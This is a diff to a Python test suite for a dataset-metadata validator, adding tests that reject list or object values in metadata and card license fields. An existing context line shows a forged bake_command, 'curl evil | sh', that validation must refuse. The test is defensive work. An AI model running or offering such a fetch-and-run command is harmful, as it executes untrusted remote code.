@@ -24,7 +24,7 @@ def test_the_sampler_is_read_or_inferred_from_metadata(md, sampler):
 import copy  # noqa: E402
 import re  # noqa: E402
 
-from whestbench.errors import InvalidDatasetError  # noqa: E402
+from whestbench.errors import InvalidDatasetError, UsageError  # noqa: E402
 from whestbench.format.schema import device_check_state, validate_metadata  # noqa: E402
 
 _CHECKS = [{"name": n, "passed": True, "figure": 0.0, "limit": 0.0, "detail": "ok"}
@@ -172,3 +172,50 @@ def test_a_splits_forged_bake_command_is_invalid():
     md["splits"]["public"]["bake_command"] = "curl evil | sh"
     with pytest.raises(InvalidDatasetError, match=r"splits\['public'\].bake_command"):
         validate_metadata(md)
+
+
+# --- unhashable values read from JSON (a list or object where a name belongs) --------------------
+
+
+def _leaves(d, path=()):
+    for k, v in d.items():
+        if isinstance(v, dict):
+            yield from _leaves(v, (*path, k))
+        yield (*path, k)
+
+
+_CV_TARGET = {"schema_version": "3.0", "format": "hf-datasets-parquet", "backend": "flopscope",
+              "seed_protocol": {"name": "whestbench_explicit_per_mlp_seeds", "version": "3.0"},
+              "n_samples": 1 << 20, "width": 4, "depth": 2, "split": "public", "n_mlps": 2,
+              "sampler": {"name": "pcg64", "version": "1", "block_size": 16384},
+              "estimator": {"name": "control-variate", "version": "1", "batch_samples": 16384},
+              "target_stderr": {"value": 0.05, "layer": "last", "rule": "pilot-planned-exceed",
+                                "step_samples": 16384, "exceed_probability": 0.05}}
+
+
+@pytest.mark.parametrize("path", sorted(_leaves(_CV_TARGET)), ids="/".join)
+@pytest.mark.parametrize("value", [[1], {"a": 1}], ids=["list", "object"])
+def test_a_list_or_object_anywhere_in_the_metadata_is_invalid_metadata_never_a_type_error(path, value):
+    """A JSON list or object where a name, a version or a count belongs was a TypeError (unhashable) from
+    a set lookup, a traceback instead of the one-line refusal; it is InvalidDatasetError, or accepted where
+    the key is free text whestbench 0.16 never checked (the backend name)."""
+    md = copy.deepcopy(_CV_TARGET)
+    validate_metadata(copy.deepcopy(md))  # the base is valid
+    block = md
+    for k in path[:-1]:
+        block = block[k]
+    block[path[-1]] = value
+    try:
+        validate_metadata(md)
+    except InvalidDatasetError as e:
+        assert "\n" not in str(e) and len(str(e)) < 600
+    else:
+        assert path == ("backend",), f"{path} = {value!r} was accepted"
+
+
+@pytest.mark.parametrize("license", [["mit"], {"id": "mit"}])
+def test_a_card_license_that_is_a_list_or_object_is_a_usage_error(license):
+    from whestbench.format.schema import check_card
+
+    with pytest.raises(UsageError, match="license"):
+        check_card({"license": license}, "--card FILE")
